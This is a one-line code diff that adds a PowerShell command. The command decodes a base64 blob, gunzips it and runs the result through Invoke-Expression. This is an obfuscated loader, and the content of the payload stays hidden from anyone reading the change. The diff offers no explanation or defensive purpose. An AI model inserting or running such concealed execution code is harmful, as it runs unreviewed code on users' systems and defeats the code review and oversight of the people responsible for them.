@@ -1,0 +1,1 @@
+$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAACA1NJVrBV8Est1/VPykpNLgEyS/TCU5OcczJT80qsFVSS9Vzyy/Ny8hNTgkuKMvPSNdQzSkoKrPT1E/VSKxJzC3JS9Qv0K/RKKkrUNQH0q+lNTAAAAA=="));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();
